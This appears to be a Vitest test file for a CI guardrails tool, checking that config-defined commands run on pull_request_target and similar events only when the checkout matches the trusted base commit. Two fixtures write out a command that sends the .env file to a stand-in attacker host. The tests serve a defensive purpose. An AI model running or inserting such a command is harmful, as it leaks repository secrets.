import { chmodSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { commandsAllowed } from '../../src/config/trust.js';
import { tmpRepo, write } from '../helpers.js';

const CFG = 'infra/selfcheck/guardrails.yaml';
const YAML = 'version: 1\nguardrails:\n  - id: cmd\n    check: command\n    run: sh scripts/check.sh\n';
const RULE = "on pull_request_target commands run only when the checkout is exactly the base branch's commit";

/** A repository with a base commit; `head` changes applied on top (uncommitted, as a checkout of the PR). */
function repo(head: Record<string, string> = {}, base: Record<string, string> = { [CFG]: YAML, 'scripts/check.sh': 'echo ok\n', '.gitignore': 'node_modules/\n*.log\n' }) {
  const root = tmpRepo(base, { git: true });
  const sha = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: root, encoding: 'utf8' }).trim();
  for (const [f, c] of Object.entries(head)) write(root, f, c);
  return { root, sha };
}
const target = (root: string, sha: string | undefined, extra: Partial<Parameters<typeof commandsAllowed>[0]> = {}) =>
  commandsAllowed({
    allowInput: true,
    eventName: 'pull_request_target',
    payload: { pull_request: { base: sha ? { sha } : {}, head: { sha: 'f'.repeat(40) } } },
    root,
    configAbs: path.join(root, CFG),
    configRepoPath: CFG,
    ...extra,
  });

describe('commands on pull_request_target', () => {
  it('run when the checkout is exactly the base commit (ignored files, such as installed dependencies, do not count)', async () => {
    const { root, sha } = repo({ 'node_modules/x/index.js': 'x', 'build.log': 'l' });
    expect(await target(root, sha)).toEqual({ allowed: true });
  });

  it('are refused when the pull request changes the guardrails file', async () => {
    const { root, sha } = repo({ [CFG]: `${YAML}  - id: evil\n    check: command\n    run: curl https://attacker.invalid -d @.env\n` });
    expect(await target(root, sha)).toEqual({ allowed: false, reason: `${RULE}, and the guardrails file ${CFG} is not ${sha.slice(0, 7)}'s` });
  });

  it("are refused when the pull request changes the script the command runs, and the guardrails file is the base branch's", async () => {
    const { root, sha } = repo({ 'scripts/check.sh': 'curl https://attacker.invalid -d @.env\n' });
    expect(await target(root, sha)).toEqual({ allowed: false, reason: `${RULE}, and the checkout differs from ${sha.slice(0, 7)} in 1 file: scripts/check.sh` });
  });

  it('are refused when the checkout adds a file the base does not have, deletes one, or makes one executable', async () => {
    const added = repo({ 'conftest.py': 'import os\n' });
    expect((await target(added.root, added.sha)).reason).toBe(`${RULE}, and the checkout holds a file ${added.sha.slice(0, 7)} does not have (untracked, not ignored: 1 file: conftest.py)`);
    const committed = repo();
    execFileSync('git', ['rm', '-q', 'scripts/check.sh'], { cwd: committed.root });
    expect((await target(committed.root, committed.sha)).reason).toContain('differs from');
    const mode = repo();
    chmodSync(path.join(mode.root, 'scripts/check.sh'), 0o755);
    expect((await target(mode.root, mode.sha)).reason).toContain('in 1 file: scripts/check.sh');
  });

  it("an earlier run's own outputs (the SARIF file, the report) are not counted as untracked", async () => {
    const { root, sha } = repo({ 'guardrails.sarif': '{}' });
    expect((await target(root, sha)).allowed).toBe(false);
    expect(await target(root, sha, { ownFiles: [path.join(root, 'guardrails.sarif')] })).toEqual({ allowed: true });
  });

  it('are refused when the pull request adds the guardrails file', async () => {
    const { root, sha } = repo({ [CFG]: YAML }, { 'README.md': 'x\n' });
    expect(await target(root, sha)).toEqual({ allowed: false, reason: `${RULE}, and the guardrails file ${CFG} is not ${sha.slice(0, 7)}'s` });
  });

  it('are refused when the base commit is unknown or not in the clone; GITHUB_SHA is the other trusted commit', async () => {
    const { root, sha } = repo();
    expect(await target(root, undefined)).toEqual({ allowed: false, reason: `${RULE}, and the base commit is unknown (no pull_request.base.sha or GITHUB_SHA)` });
    const missing = await target(root, '1'.repeat(40));
    expect(missing).toEqual({ allowed: false, reason: `${RULE}, and the base commit 1111111 is not in this clone (fetch it, e.g. fetch-depth: 0)` });
    expect(await target(root, '1'.repeat(40), { sha })).toEqual({ allowed: true });
    expect(await target(root, undefined, { sha })).toEqual({ allowed: true });
  });

  it('are refused outside a git checkout, and for a guardrails file outside it', async () => {
    const plain = tmpRepo({ [CFG]: YAML });
    expect((await target(plain, 'a'.repeat(40))).reason).toBe(`${RULE}, and ${plain} is not in a git checkout to compare`);
    const { root, sha } = repo();
    const outside = tmpRepo({ 'g.yaml': YAML });
    expect((await target(root, sha, { configAbs: path.join(outside, 'g.yaml'), configRepoPath: '../g.yaml' })).reason).toBe(`${RULE}, and the guardrails file ../g.yaml is outside the checkout`);
  });

  it('a root below the top of the work tree: the whole work tree is compared', async () => {
    const { root, sha } = repo({ 'other/tool.sh': 'evil\n' }, { 'svc/infra/selfcheck/guardrails.yaml': YAML, 'other/tool.sh': 'ok\n' });
    const svc = path.join(root, 'svc');
    const r = await target(svc, sha, { configAbs: path.join(svc, CFG) });
    expect(r).toEqual({ allowed: false, reason: `${RULE}, and the checkout differs from ${sha.slice(0, 7)} in 1 file: other/tool.sh` });
  });

  it('run on other events, and when the built-in defaults are used (they run no command)', async () => {
    const { root, sha } = repo({ [CFG]: `${YAML}# changed\n` });
    expect(await target(root, sha, { eventName: 'pull_request' })).toEqual({ allowed: true });
    expect(await target(root, sha, { eventName: 'push' })).toEqual({ allowed: true });
    expect(await target(root, sha, { configAbs: path.join(root, 'nope.yaml'), configRepoPath: 'nope.yaml' })).toEqual({ allowed: true });
  });

  it('workflow_run and issue_comment: the checkout must be GITHUB_SHA', async () => {
    const { root, sha } = repo();
    for (const eventName of ['workflow_run', 'issue_comment']) {
      expect(await target(root, undefined, { eventName, payload: { workflow_run: { head_sha: 'f'.repeat(40) } }, sha })).toEqual({ allowed: true });
      expect((await target(root, sha, { eventName, sha: undefined })).reason).toBe(
        `on ${eventName} commands run only when the checkout is exactly the base branch's commit, and the base commit is unknown (no GITHUB_SHA)`,
      );
    }
    writeFileSync(path.join(root, 'scripts/check.sh'), 'evil\n');
    expect((await target(root, undefined, { eventName: 'workflow_run', sha })).allowed).toBe(false);
  });

  it('allow-commands: unsafe-untrusted-checkout runs them anyway, and says so', async () => {
    const { root, sha } = repo({ 'scripts/check.sh': 'evil\n' });
    const r = await target(root, sha, { unsafe: true });
    expect(r.allowed).toBe(true);
    expect(r.warning).toContain('unsafe-untrusted-checkout');
  });

  it('allow-commands: false refuses them everywhere', async () => {
    const { root, sha } = repo();
    expect(await target(root, sha, { allowInput: false })).toEqual({ allowed: false, reason: 'allow-commands is false' });
    expect(await target(root, sha, { allowInput: false, eventName: 'push' })).toEqual({ allowed: false, reason: 'allow-commands is false' });
  });
});
